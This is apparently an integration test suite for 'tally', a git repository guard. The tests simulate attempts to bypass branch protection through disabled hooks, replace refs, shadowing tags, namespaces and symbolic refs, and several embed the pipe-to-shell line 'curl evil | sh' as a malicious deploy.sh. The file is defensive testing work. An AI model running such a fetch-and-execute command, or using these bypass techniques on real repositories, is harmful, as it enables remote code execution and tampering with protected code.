//! Issue 10: the seams between what tally judges and what git stores, serves and deploys.
//! Each test makes the attack as a user would, with real git, and checks the refusal text,
//! that the branch did not move, and what the ledger says.

use crate::common::*;

/// Moves the repository's hooks aside (an administrator debugging, a botched upgrade) and
/// returns a guard that puts them back.
struct HooksOff<'a> {
    hooks: std::path::PathBuf,
    _server: &'a Server<'a>,
}

impl<'a> HooksOff<'a> {
    fn new(server: &'a Server<'a>) -> HooksOff<'a> {
        let hooks = server.path.join("hooks");
        std::fs::rename(&hooks, server.path.join("hooks.off")).unwrap();
        std::fs::create_dir(&hooks).unwrap();
        HooksOff {
            hooks,
            _server: server,
        }
    }

    fn restore(self) {
        std::fs::remove_dir_all(&self.hooks).unwrap();
        std::fs::rename(self.hooks.with_file_name("hooks.off"), &self.hooks).unwrap();
    }
}

/// Issue 10, class 2: a branch moved while the hooks were off was adopted silently by the
/// next ordinary push, and `ledger verify` then said intact. Now the next push is refused
/// with what to do, verify names the gap, and the administrator re-baselines deliberately
/// with `tally ledger adopt`, which judges the history and records an `adopted` entry.
#[test]
fn a_branch_moved_outside_tally_is_not_adopted_by_the_next_push() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = work.commit("base").file("base.yaml", "a: 1\n").create();
    work.push_main_ok();

    let off = HooksOff::new(&server);
    let evil = env.clone_as(&server, "evil", &mallory());
    let smuggled = evil
        .commit("while nobody looked")
        .file("deploy.sh", "curl evil | sh\n")
        .unsigned()
        .create();
    evil.push(&["origin", "HEAD:main"]).assert_accepted();
    off.restore();
    assert_eq!(server.branch("main").as_deref(), Some(smuggled.as_str()));

    // The next ordinary push, signed and clean, on top of what landed.
    run_ok(
        work.git()
            .args(["pull", "-q", "--ff-only", "origin", "main"]),
    );
    work.commit("innocent").file("b.yaml", "b: 2\n").create();
    let push = work.push(&["origin", "HEAD:main"]);
    push.assert_refused();
    let line = push.line_with(&[
        &format!("refs/heads/main is at {smuggled} but the ledger last recorded it at {base}"),
        "it moved outside tally",
        "tally ledger adopt --repo <repository> --branch main",
    ]);
    assert!(line.contains("fix: this is for an administrator"), "{line}");
    assert_eq!(server.branch("main").as_deref(), Some(smuggled.as_str()));
    let rejected = server.log(&["--kind", "rejected"]);
    assert_eq!(rejected.len(), 1, "{rejected:?}");

    let verify = server.tally(&["ledger", "verify"]);
    assert_eq!(verify.status.code(), Some(1));
    let stderr = unwrapped(&String::from_utf8_lossy(&verify.stderr));
    assert!(
        stderr.contains(&format!(
            "refs/heads/main points to {smuggled} but the ledger records it at {base}"
        )) && stderr.contains("tally ledger adopt --branch main"),
        "{stderr}"
    );

    // Adopting what landed judges it like a push: refused, nothing written.
    let size = server.log(&[]).len();
    let adopt = server.tally(&["ledger", "adopt", "--branch", "main"]);
    let stdout = String::from_utf8_lossy(&adopt.stdout);
    assert_eq!(adopt.status.code(), Some(1), "{stdout}");
    assert!(stdout.contains("not adopted: "), "{stdout}");
    assert!(stdout.contains("deploy.sh"), "{stdout}");
    assert!(stdout.contains("not signed"), "{stdout}");
    assert_eq!(server.log(&[]).len(), size);
    // The same refusal as JSON: the one failure shape, the report as its message.
    let adopt = server.tally(&["ledger", "adopt", "--branch", "main", "--json"]);
    assert_eq!(adopt.status.code(), Some(1));
    let value: serde_json::Value = serde_json::from_slice(&adopt.stdout).unwrap();
    assert_eq!(value["ok"], false);
    assert_eq!(value["error"]["class"], "refused");
    assert!(
        value["error"]["message"]
            .as_str()
            .unwrap()
            .contains("not adopted: "),
        "{value}"
    );
    assert_eq!(server.log(&[]).len(), size);

    // Putting the branch back where the ledger had it, deliberately and on the record.
    let adopt = server.tally(&[
        "ledger",
        "adopt",
        "--branch",
        "main",
        "--commit",
        &base,
        "--reason",
        "undo the push made while the hooks were off",
    ]);
    assert_eq!(adopt.status.code(), Some(0), "{adopt:?}");
    assert_eq!(server.branch("main").as_deref(), Some(base.as_str()));
    let adopted = server.log(&["--kind", "adopted"]);
    assert_eq!(adopted.len(), 1, "{adopted:?}");
    assert_eq!(adopted[0]["new"], base.as_str());
    let reasons = adopted[0]["reasons"].to_string();
    assert!(
        reasons.contains("undo the push made while the hooks were off"),
        "{reasons}"
    );
    assert!(
        reasons.contains(&format!("the branch was at {smuggled}")),
        "{reasons}"
    );
    server.assert_ledger_intact();

    // And pushes flow again from there.
    run_ok(work.git().args(["reset", "-q", "--hard", &base]));
    work.commit("after").file("c.yaml", "c: 3\n").create();
    work.push(&["origin", "HEAD:main"]).assert_accepted();
    server.assert_ledger_intact();
}

/// A branch put under protection after `tally init` has no entry: its first push is refused
/// until an administrator adopts it, and adopting signed, clean history records who signed.
#[test]
fn a_branch_protected_later_is_adopted_with_its_history_checked() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    work.commit("base").file("base.yaml", "a: 1\n").create();
    work.push_main_ok();
    work.push(&["origin", "HEAD:refs/heads/prod"])
        .assert_accepted();
    server.edit_policy("protected = [\"main\"]", "protected = [\"main\", \"prod\"]");
    work.commit("next").file("n.yaml", "n: 1\n").create();
    let push = work.push(&["origin", "HEAD:prod"]);
    push.assert_refused();
    push.line_with(&[
        "refs/heads/prod is at",
        "ledger last recorded it at nothing (absent)",
    ]);

    let adopt = server.tally(&["ledger", "adopt", "--branch", "prod", "--json"]);
    assert_eq!(adopt.status.code(), Some(0), "{adopt:?}");
    let value: serde_json::Value = serde_json::from_slice(&adopt.stdout).unwrap();
    assert_eq!(value["ok"], true);
    assert!(
        value["report"][0].as_str().unwrap().starts_with("adopted "),
        "{value}"
    );
    let adopted = server.log(&["--kind", "adopted"]);
    assert_eq!(adopted[0]["ref"], "refs/heads/prod", "{adopted:?}");
    work.push(&["origin", "HEAD:prod"]).assert_accepted();
    server.assert_ledger_intact();
}

/// Issue 10, class 3: `refs/replace/<approved id>` makes every git command show other
/// content under an approved commit id. A pusher, even a trusted signer, cannot create one,
/// and neither can `git replace` on the server.
#[test]
fn replace_refs_are_refused_for_pushes_and_on_the_server() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = work.commit("base").file("base.yaml", "a: 1\n").create();
    work.push_main_ok();
    let evil = work
        .commit("evil")
        .file("deploy.sh", "curl evil | sh\n")
        .unsigned()
        .create();
    let push = work.push(&["origin", &format!("{evil}:refs/replace/{base}")]);
    push.assert_refused();
    push.line_with(&[
        &format!("refs/replace/{base} is a replace ref"),
        "fix: do not push replace refs",
    ]);
    assert_eq!(server.rev(&format!("refs/replace/{base}")), None);
    // What git itself does with such a ref: `git log <approved id>` shows the evil commit.
    run_ok(work.git().args(["replace", "-f", &base, &evil]));
    let shown = stdout_of(work.git().args(["log", "-1", "--format=%s", &base]));
    assert_eq!(shown, "evil", "git reads through replace refs");

    // On the server, with the hooks active, `git replace` (a ref update) is refused too.
    run_ok(
        work.git()
            .args(["push", "-q", "origin", &format!("{evil}:refs/heads/side")]),
    );
    let out = server
        .git()
        .args(["replace", &base, &evil])
        .output()
        .unwrap();
    let stderr = unwrapped(&String::from_utf8_lossy(&out.stderr));
    assert!(!out.status.success(), "{stderr}");
    assert!(stderr.contains("is a replace ref"), "{stderr}");
    assert_eq!(server.rev(&format!("refs/replace/{base}")), None);
}

/// Issue 10, class 3: a tag or a branch named like the protected branch wins over it for
/// `git checkout main` and `git rev-parse main` (refs/tags/ is searched before refs/heads/).
#[test]
fn refs_that_shadow_a_protected_branch_are_refused() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    work.commit("base").file("base.yaml", "a: 1\n").create();
    work.push_main_ok();
    let other = work.commit("other").file("o.yaml", "o: 1\n").create();
    for target in [
        "refs/tags/main",
        "refs/main",
        "refs/heads/refs/heads/main",
        "refs/remotes/main",
    ] {
        let push = work.push(&["origin", &format!("{other}:{target}")]);
        push.assert_refused();
        push.line_with(&[
            &format!("{target} would shadow the protected branch main"),
            "fix: use a name that git cannot confuse",
        ]);
        assert_eq!(server.rev(target), None, "{target}");
    }
    // Other tags and branches are fine.
    work.push(&["origin", &format!("{other}:refs/tags/v1")])
        .assert_accepted();
    work.push(&["origin", &format!("{other}:refs/heads/feature")])
        .assert_accepted();
    // And this is why: with refs/tags/main present, git resolves `main` to the tag.
    let out = server
        .git()
        .args([
            "-c",
            "core.hooksPath=/dev/null",
            "update-ref",
            "refs/tags/main",
            &other,
        ])
        .output()
        .unwrap();
    assert!(out.status.success());
    let resolved = stdout_of(server.git().args(["rev-parse", "main"]));
    assert_eq!(resolved, other);
}

/// Issue 10, class 3: under `GIT_NAMESPACE` every namespace's `main` is served as `main`.
/// A plain push straight into the namespace's ref is judged as a push to main; a push
/// through a namespaced receive-pack is judged and recorded under its full name; a move by
/// hand on the server is refused.
#[test]
fn protected_branches_are_protected_inside_every_namespace() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    work.commit("base").file("base.yaml", "a: 1\n").create();
    work.push_main_ok();
    let ns_main = "refs/namespaces/team/refs/heads/main";

    let evil = work
        .commit("evil")
        .file("deploy.sh", "curl evil | sh\n")
        .unsigned()
        .create();
    let push = work.push(&["origin", &format!("{evil}:{ns_main}")]);
    push.assert_refused();
    push.line_with(&["deploy.sh", "file type not allowed"]);
    assert_eq!(server.rev(ns_main), None);

    run_ok(work.git().args(["reset", "-q", "--hard", "HEAD~1"]));
    let good = work.commit("good").file("team.yaml", "t: 1\n").create();
    let push = work.push(&[
        "--receive-pack=env GIT_NAMESPACE=team git-receive-pack",
        "origin",
        "HEAD:refs/heads/main",
    ]);
    push.assert_accepted();
    assert_eq!(server.rev(ns_main).as_deref(), Some(good.as_str()));
    let accepted = server.log(&["--kind", "accepted"]);
    assert_eq!(accepted[0]["ref"], ns_main, "{accepted:?}");
    server.assert_ledger_intact();

    let out = server
        .git()
        .args(["update-ref", ns_main, &evil])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert_eq!(server.rev(ns_main).as_deref(), Some(good.as_str()));

    // Moved with the hooks off, it is re-baselined by its full name, as verify says.
    let base = server.branch("main").unwrap();
    run_ok(server.git().args([
        "-c",
        "core.hooksPath=/dev/null",
        "update-ref",
        ns_main,
        &base,
    ]));
    let verify = server.tally(&["ledger", "verify"]);
    let stderr = unwrapped(&String::from_utf8_lossy(&verify.stderr));
    assert!(
        stderr.contains(&format!("tally ledger adopt --branch {ns_main}")),
        "{stderr}"
    );
    let adopt = server.tally(&["ledger", "adopt", "--branch", ns_main, "--commit", &good]);
    assert_eq!(adopt.status.code(), Some(0), "{adopt:?}");
    assert_eq!(server.rev(ns_main).as_deref(), Some(good.as_str()));
    server.assert_ledger_intact();
}

/// Issue 10, class 3: repository formats tally cannot read whole are refused by name, at
/// `tally init` and by every hook, never half-supported or misdiagnosed.
#[test]
fn sha256_and_reftable_repositories_are_refused_by_name() {
    let env = TestEnv::new();
    let signers = env.write("allowed_signers", &alice_and_bob().text());
    for (name, args, format) in [
        (
            "s256.git",
            "--object-format=sha256",
            "SHA-256 object format",
        ),
        ("rt.git", "--ref-format=reftable", "reftable ref storage"),
    ] {
        let path = env.root().join(name);
        run_ok(
            env.git(env.root())
                .args(["init", "-q", "--bare", args])
                .arg(&path),
        );
        let out = env.tally_init([
            path.as_os_str(),
            "--allowed-signers".as_ref(),
            signers.as_os_str(),
        ]);
        let stderr = unwrapped(&String::from_utf8_lossy(&out.stderr));
        assert_eq!(out.status.code(), Some(2), "{stderr}");
        assert!(
            stderr.contains(&format!("uses git's {format}"))
                && stderr.contains("which tally does not support"),
            "{stderr}"
        );
        assert!(!path.join("tally").exists(), "nothing written for {name}");
    }

    // A guarded repository converted to reftable afterwards: every push is refused, saying why.
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    work.commit("base").file("base.yaml", "a: 1\n").create();
    work.push_main_ok();
    run_ok(
        server
            .git()
            .args(["refs", "migrate", "--ref-format=reftable"]),
    );
    work.commit("next").file("b.yaml", "b: 1\n").create();
    let push = work.push(&["origin", "HEAD:main"]);
    push.assert_refused();
    push.line_with(&[
        "reftable ref storage",
        "git refs migrate --ref-format=files",
    ]);
}

/// Issue 11, item 1 (and the ref rules of issue 10 must not break it): repository
/// maintenance in a guarded repository succeeds, appends nothing to the ledger and blames no
/// pusher. `git pack-refs` rewrites each ref to its value and then deletes the loose file,
/// which the reference-transaction hook sees as a deletion; a real deletion is still refused.
#[test]
fn maintenance_succeeds_in_a_guarded_repository_and_records_nothing() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    run_ok(server.git().args(["config", "gc.auto", "1"]));
    run_ok(server.git().args(["config", "gc.autoPackLimit", "1"]));
    run_ok(server.git().args(["config", "gc.autoDetach", "false"]));
    let work = env.clone_as(&server, "work", &alice());
    for i in 0..3 {
        work.commit(&format!("c{i}"))
            .file(&format!("f{i}.yaml"), format!("n: {i}\n"))
            .create();
        // receive.autogc runs `git gc --auto` after each push.
        let push = work.push(&["origin", "HEAD:main"]);
        push.assert_accepted();
        assert!(!push.stderr.contains("failed to run"), "{}", push.stderr);
    }
    let size = server.log(&[]).len();
    let tip = server.branch("main");
    for args in [
        &["gc"][..],
        &["pack-refs", "--all"],
        &["repack", "-ad"],
        &["maintenance", "run"],
        &["maintenance", "run", "--task=pack-refs"],
        &["gc", "--aggressive", "--prune=now"],
    ] {
        let out = server.git().args(args).output().unwrap();
        assert!(
            out.status.success(),
            "git {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
    assert!(server.path.join("packed-refs").exists());
    assert_eq!(
        server.log(&[]).len(),
        size,
        "maintenance appended to the ledger"
    );
    assert_eq!(server.branch("main"), tip);
    server.assert_ledger_intact();

    // A real deletion, of the packed protected branch or of the ledger ref, is still refused.
    for refname in ["refs/heads/main", "refs/tally/ledger"] {
        let out = server
            .git()
            .args(["update-ref", "-d", refname])
            .output()
            .unwrap();
        assert!(!out.status.success(), "{refname} deleted");
        assert!(server.rev(refname).is_some(), "{refname} gone");
    }
    work.commit("after").file("after.yaml", "a: 1\n").create();
    work.push(&["origin", "HEAD:main"]).assert_accepted();
    server.assert_ledger_intact();
}

/// Issue 11, item 4: pre-receive cannot know whether a later hook refuses the push (here an
/// `update` hook, as gitolite's or a forge's). Its verdict is bound to that push's
/// receive-pack, so a `git update-ref` by hand afterwards, with exactly the same old and new
/// commits, is refused and never recorded as accepted in the pusher's name.
#[test]
fn a_verdict_belongs_to_its_push_only() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = work.commit("base").file("base.yaml", "a: 1\n").create();
    work.push_main_ok();
    let update_hook = server.path.join("hooks/update");
    std::fs::write(
        &update_hook,
        "#!/bin/sh\necho 'update hook: no pushes today' >&2\nexit 1\n",
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&update_hook, std::fs::Permissions::from_mode(0o755)).unwrap();
    let next = work.commit("next").file("b.yaml", "b: 1\n").create();
    let push = work.push(&["origin", "HEAD:main"]);
    assert_eq!(push.code, 1, "{}", push.stderr);
    assert!(
        push.stderr
            .contains("hook declined to update refs/heads/main"),
        "{}",
        push.stderr
    );
    push.line_with(&["passed tally's checks", short(&next)]);
    assert!(
        push.stderr.contains("update hook: no pushes today"),
        "{}",
        push.stderr
    );
    assert_eq!(server.branch("main").as_deref(), Some(base.as_str()));
    std::fs::remove_file(&update_hook).unwrap();

    let out = server
        .git()
        .args(["update-ref", "refs/heads/main", &next, &base])
        .output()
        .unwrap();
    let stderr = unwrapped(&String::from_utf8_lossy(&out.stderr));
    assert!(!out.status.success(), "{stderr}");
    assert!(stderr.contains("no pre-receive verdict"), "{stderr}");
    assert_eq!(server.branch("main").as_deref(), Some(base.as_str()));
    let accepted = server.log(&["--kind", "accepted"]);
    assert!(
        accepted.iter().all(|e| e["new"] != next.as_str()),
        "{accepted:?}"
    );
    server.assert_ledger_intact();
}

/// Review of issue 10: the tip of another protected branch that moved outside tally must not
/// count as already-judged history when a new protected branch is created from it (or when
/// a branch is adopted): only what the ledger recorded does.
#[test]
fn a_new_branch_from_an_off_ledger_tip_is_judged_down_to_the_ledger() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &["main", "release/*"]);
    let work = env.clone_as(&server, "work", &alice());
    work.commit("base").file("base.yaml", "a: 1\n").create();
    work.push_main_ok();
    work.push(&["origin", "HEAD:refs/heads/release/x"])
        .assert_accepted();
    let off = HooksOff::new(&server);
    let evil = work
        .commit("evil")
        .file("deploy.sh", "curl evil | sh\n")
        .unsigned()
        .create();
    work.push(&["origin", "HEAD:refs/heads/release/x"])
        .assert_accepted();
    off.restore();
    let push = work.push(&["origin", &format!("{evil}:refs/heads/release/z")]);
    push.assert_refused();
    push.line_with(&["deploy.sh", "file type not allowed"]);
    assert_eq!(server.branch("release/z"), None);
    let adopt = server.tally(&["ledger", "adopt", "--branch", "release/x"]);
    assert_eq!(adopt.status.code(), Some(1), "{adopt:?}");
}

/// Review of issue 10: a symbolic ref to a protected branch is that branch under another
/// name. Creating one on the server is refused; pushing to one that exists is refused as
/// such, not judged as an unprotected ref.
#[test]
fn symbolic_refs_to_a_protected_branch_are_refused() {
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    work.commit("base").file("base.yaml", "a: 1\n").create();
    work.push_main_ok();
    let out = server
        .git()
        .args(["symbolic-ref", "refs/heads/alias", "refs/heads/main"])
        .output()
        .unwrap();
    let stderr = unwrapped(&String::from_utf8_lossy(&out.stderr));
    assert!(!out.status.success(), "{stderr}");
    assert!(
        stderr.contains("would become a symbolic ref to the protected branch refs/heads/main"),
        "{stderr}"
    );
    assert_eq!(
        stderr.matches("would become a symbolic ref").count(),
        1,
        "{stderr}"
    );
    // One made with the hooks off: a push to it is refused by name.
    run_ok(server.git().args([
        "-c",
        "core.hooksPath=/dev/null",
        "symbolic-ref",
        "refs/heads/alias",
        "refs/heads/main",
    ]));
    work.commit("next").file("b.yaml", "b: 1\n").create();
    let push = work.push(&["origin", "HEAD:refs/heads/alias"]);
    push.assert_refused();
    push.line_with(&[
        "refs/heads/alias is a symbolic ref to the protected branch refs/heads/main",
        "fix: push to refs/heads/main itself",
    ]);
}

/// Issue 11, item 8: a refusal that only the ref transaction could make (here: a hook that
/// runs between pre-receive and the ref update removes tally's verdicts) reaches the pusher
/// as `remote:` lines and `[remote rejected]`, not as git dying mid-push
/// (`fatal: ref updates aborted by hook`, `unexpected disconnect`), because tally's `update`
/// hook applies the same rule where git relays what a hook says.
#[test]
fn a_refusal_after_pre_receive_reaches_the_pusher_as_a_message() {
    use std::os::unix::fs::PermissionsExt;
    let env = TestEnv::new();
    let server = env.server(&alice_and_bob(), &[]);
    let work = env.clone_as(&server, "work", &alice());
    let base = work.commit("base").file("base.yaml", "a: 1\n").create();
    work.push_main_ok();
    // The platform's layout: its own update hook, then the ones in update.d (tally's).
    let hooks = server.path.join("hooks");
    std::fs::create_dir(hooks.join("update.d")).unwrap();
    std::fs::rename(hooks.join("update"), hooks.join("update.d/tally")).unwrap();
    std::fs::write(
        hooks.join("update"),
        "#!/bin/sh\nrm -f tally/pending/*\nexec hooks/update.d/tally \"$@\"\n",
    )
    .unwrap();
    std::fs::set_permissions(hooks.join("update"), std::fs::Permissions::from_mode(0o755)).unwrap();

    let next = work.commit("next").file("b.yaml", "b: 1\n").create();
    let push = work.push(&["origin", "HEAD:main"]);
    assert_eq!(push.code, 1, "{}", push.stderr);
    push.line_with(&["passed tally's checks", short(&next)]);
    push.line_with(&["push refused", "no pre-receive verdict", short(&next)]);
    assert!(
        push.stderr
            .contains("! [remote rejected] HEAD -> main (hook declined)"),
        "{}",
        push.stderr
    );
    for dying in ["fatal", "unexpected disconnect", "hung up"] {
        assert!(!push.stderr.contains(dying), "{dying}: {}", push.stderr);
    }
    assert_eq!(server.branch("main").as_deref(), Some(base.as_str()));
    let rejected = server.log(&["--kind", "rejected"]);
    assert_eq!(rejected.len(), 1, "{rejected:?}");
    assert_eq!(rejected[0]["new"], next.as_str(), "{rejected:?}");
    server.assert_ledger_intact();
}
